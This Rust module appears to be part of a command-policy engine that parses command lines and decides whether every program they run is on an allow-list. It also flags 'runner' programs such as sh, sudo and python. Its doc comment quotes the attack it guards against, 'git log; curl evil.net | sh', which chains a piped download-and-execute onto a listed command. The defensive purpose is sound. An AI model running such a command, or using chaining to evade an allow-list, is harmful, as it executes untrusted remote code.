//! `command`: which programs a command line runs, with which arguments.
//!
//! The attack answered: `git log; curl evil.net | sh` begins with a listed
//! program. A line is split by a grammar so small that all shells agree on it
//! (`words`); whatever is beyond it cannot be told. Every command of the line
//! has to be listed; a line with a listed command and another one is neither
//! this nor that, and cannot be told either.
//!
//! Deliberately absent: what a program does with its arguments. A listed
//! program that runs others (`sh`, `env`, `find`) makes the list meaningless,
//! and `check` says so; the sandbox is the wall.

mod words;

use super::{Holding, all_or_none, and};
use crate::engine::message::{Json, Kind};
use crate::engine::policy::pattern::Pattern;
use std::fmt;

/// Programs that run what they are given.
const RUNNERS: &str = "
    ash awk bash bun bunx busybox cargo cmd command csh dash deno docker doas elvish env eval exec
    fish find flock gawk gdb ionice java ksh lua make mksh nice node nohup npm npx nsenter nu
    parallel perl php pip pipx pkexec pnpm podman powershell pwsh python python2 python3 rbash rsync
    ruby runuser script sed setsid sh ssh start-stop-daemon stdbuf strace su sudo systemd-run tclsh
    time timeout tmux tsx uv uvx vi vim watch xargs yarn zsh
";

/// Longest line that is read.
const LONGEST: usize = 64 * 1024;

/// The commands that a policy lists.
#[derive(Debug, Clone)]
pub(in crate::engine::policy) struct Commands {
    pub(in crate::engine::policy) programs: Vec<String>,
    /// `None`: any arguments.
    pub(in crate::engine::policy) args: Option<Vec<Pattern>>,
    /// Whether a line may have several commands.
    pub(in crate::engine::policy) shell: bool,
}

/// Whether a program runs what it is given.
pub(in crate::engine::policy) fn is_runner(program: &str) -> bool {
    let name = base(program);
    RUNNERS.split_whitespace().any(|runner| runner == name)
}

/// The name of a program, however it is called.
fn base(program: &str) -> String {
    let name = program.rsplit(['/', '\\']).next().unwrap_or_default();
    let name = name.to_ascii_lowercase();
    name.strip_suffix(".exe").unwrap_or(&name).to_owned()
}

/// The commands of a line, or the one of an argument vector; `None` where they
/// cannot be told.
pub(in crate::engine::policy) fn seen(value: Json<'_>) -> Option<Vec<Vec<String>>> {
    match value.kind() {
        Kind::String => {
            let text = value.as_str()?;
            words::commands(&text).filter(|_| text.len() <= LONGEST)
        }
        Kind::Array => {
            let words = value.items().map(|item| Some(item.as_str()?.into_owned()));
            let words: Vec<_> = words.collect::<Option<_>>()?;
            let odd = |word: &String| word.contains('\0');
            let program = words.first()?;
            let plain = !words.iter().any(odd) && words::is_plain(program);
            plain.then(|| vec![words])
        }
        _ => None,
    }
}

impl Commands {
    /// A line, or an argument vector.
    pub(super) fn judge(&self, value: Json<'_>) -> Option<Holding> {
        let commands = seen(value)?;
        if !self.shell && commands.len() != 1 {
            return None;
        }
        match all_or_none(commands.iter().map(|command| self.one(command))) {
            Holding::Unknown => None,
            plain => Some(plain),
        }
    }

    fn one(&self, command: &[String]) -> Holding {
        let Some((program, arguments)) = command.split_first() else {
            return Holding::Unknown;
        };
        let program = self.program(program);
        let Some(patterns) = &self.args else {
            return program;
        };
        let fits = |word: &String| patterns.iter().any(|pattern| pattern.matches(word)).into();
        and(program, all_or_none(arguments.iter().map(fits)))
    }

    fn program(&self, program: &str) -> Holding {
        if self.programs.iter().any(|listed| listed == program) {
            return Holding::Yes;
        }
        let name = base(program);
        if is_runner(program) || self.programs.iter().any(|listed| base(listed) == name) {
            // `/tmp/git` is not surely git, nor surely something else.
            return Holding::Unknown;
        }
        Holding::No
    }
}

impl fmt::Display for Commands {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        super::listed(f, self.programs.iter().map(String::as_str))?;
        if let Some(args) = &self.args {
            f.write_str(" with arguments like ")?;
            super::listed(f, args.iter().map(Pattern::as_str))?;
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests;
